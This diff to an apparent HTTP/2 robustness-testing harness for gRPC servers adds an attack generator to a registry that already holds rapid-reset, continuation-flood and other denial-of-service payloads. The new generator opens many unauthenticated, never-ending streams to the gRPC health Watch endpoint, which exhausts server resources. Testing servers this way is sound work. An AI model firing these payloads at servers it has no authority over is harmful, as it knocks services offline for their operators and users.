@@ -103,6 +103,17 @@ def many_streams(target: Target, _: random.Random) -> bytes:
     )
 
 
+def anybody_s_streams(_: Target, __: random.Random) -> bytes:
+    """Streams that need no token, and have no end: whoever watches the health."""
+    block = http2.call("/grpc.health.v1.Health/Watch", "")
+    nothing = http2.message(b"")
+    return _greeting() + b"".join(
+        http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, block)
+        + http2.frame(http2.DATA, http2.END_STREAM, 2 * number + 1, nothing)
+        for number in range(FRAMES)
+    )
+
+
 def huge_headers(target: Target, rng: random.Random) -> bytes:
     """Fields over any limit, in one frame after the other."""
     block = http2.call(_PATHS[target.name], target.token)
@@ -145,7 +156,8 @@ ATTACKS: Final[dict[str, Attack]] = {
     each.__name__.replace("_", "-"): each
     for each in (
         noise, tls_hello, http1, garbage_frames, settings_flood, ping_flood, rapid_reset,
-        many_streams, huge_headers, continuation_flood, window_overflow, wrong_lengths,
+        many_streams, anybody_s_streams, huge_headers, continuation_flood, window_overflow,
+        wrong_lengths,
     )
 }  # fmt: skip
 
